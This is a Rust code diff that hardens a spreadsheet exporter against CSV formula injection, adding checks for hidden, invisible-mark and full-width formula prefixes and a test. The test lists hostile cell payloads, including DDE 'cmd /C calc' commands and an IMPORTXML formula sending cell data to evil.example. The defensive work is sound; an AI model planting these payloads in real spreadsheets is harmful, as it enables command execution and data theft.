@@ -39,6 +39,8 @@ impl Sheet {
         let mut writer = csv::WriterBuilder::new()
             .flexible(true)
             .terminator(csv::Terminator::CRLF)
+            // Where a list is parted by semicolons, Excel would part `a;=1` and read a formula.
+            .quote_style(csv::QuoteStyle::NonNumeric)
             .from_writer(b"\xEF\xBB\xBF".to_vec());
         writer.write_record(self.head.iter().map(|text| plain(text)))?;
         for row in &self.rows {
@@ -100,10 +102,17 @@ impl Sheet {
 }
 
 /// `text` so that no spreadsheet takes it for a formula (OWASP, "CSV Injection"): an apostrophe goes before what begins
-/// like one.
+/// like one, also behind blanks, marks that nobody sees, and in full width.
 fn plain(text: &str) -> String {
-    let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
+    let unseen = |c: char| c.is_whitespace() || c.is_control() || is_unseen(c);
+    let is_formula = text.starts_with(['\t', '\r', '\n'])
+        || text.trim_start_matches(unseen).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '|']);
     if is_formula { format!("'{text}") } else { text.to_owned() }
+}
+
+/// Marks of direction and joining, and the byte order mark.
+fn is_unseen(c: char) -> bool {
+    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{61c}')
 }
 
 /// `name` without what Excel forbids in the name of a sheet.
@@ -182,6 +191,85 @@ mod tests {
         assert_eq!(cells.get_value((10, 0)), Some(&Data::String("المصدر: السجلّ".into())));
         let formulas = book.worksheet_formula(&name).unwrap();
         assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
+    }
+
+    /// What attackers' lists have: formulas, links, commands, in every guise.
+    const HOSTILE: [&str; 25] = [
+        "=1+1",
+        "=HYPERLINK(\"https://evil.example\",\"x\")",
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "@cmd",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        " =1+1",
+        "\u{a0}=1+1",
+        "\u{200f}=1+1",
+        "\u{202e}=1+1",
+        "\u{feff}=1+1",
+        "\u{2067}=1+1\u{2069}",
+        "＝1+1",
+        "＋1+1",
+        "－1+1",
+        "＠SUM(A1)",
+        "|calc",
+        "=DDE(\"cmd\",\"/C calc\",\"x\")",
+        "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
+    ];
+
+    #[test]
+    fn nothing_hostile_is_a_formula() {
+        // Where it begins a cell, where lists are parted by semicolons, and in the head, the notes and the name.
+        let texts: Vec<String> = HOSTILE
+            .iter()
+            .flat_map(|text| {
+                [(*text).to_owned(), format!("a;{text}"), format!("a\";{text}"), format!("a\n{text}")]
+            })
+            .collect();
+        for text in &texts {
+            let sheet = Sheet {
+                name: text.clone(),
+                right_to_left: true,
+                head: vec![text.clone()],
+                rows: vec![vec![Cell::Text(text.clone())]],
+                notes: vec![text.clone()],
+            };
+            let csv = String::from_utf8(sheet.csv().unwrap()).unwrap();
+            // Read as Excel does where commas, semicolons or tabs part a list.
+            for delimiter in [b',', b';', b'\t'] {
+                let mut reader = csv::ReaderBuilder::new();
+                let reader = reader.has_headers(false).flexible(true).delimiter(delimiter);
+                let text = csv.trim_start_matches('\u{feff}').as_bytes();
+                for cell in reader
+                    .from_reader(text)
+                    .records()
+                    .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+                {
+                    assert_eq!(cell, plain(&cell), "a cell of {csv:?}");
+                }
+            }
+            let mut book: Xlsx<_> =
+                calamine::open_workbook_from_rs(Cursor::new(sheet.xlsx().unwrap())).unwrap();
+            let name = book.sheet_names()[0].clone();
+            assert!(
+                book.worksheet_formula(&name).unwrap().used_cells().all(|(_, _, formula)| formula.is_empty())
+            );
+            for (_, _, cell) in book.worksheet_range(&name).unwrap().used_cells() {
+                let Data::String(cell) = cell else { panic!("{cell:?}") };
+                assert_eq!(*cell, plain(cell));
+            }
+        }
+        for text in HOSTILE {
+            assert_eq!(plain(text), format!("'{text}"), "it is known for what it is");
+        }
+        for text in ["سانتياغو", "a=1", "3+4", "Al-Khalil", "٣=١"] {
+            assert_eq!(plain(text), text);
+        }
     }
 
     #[test]
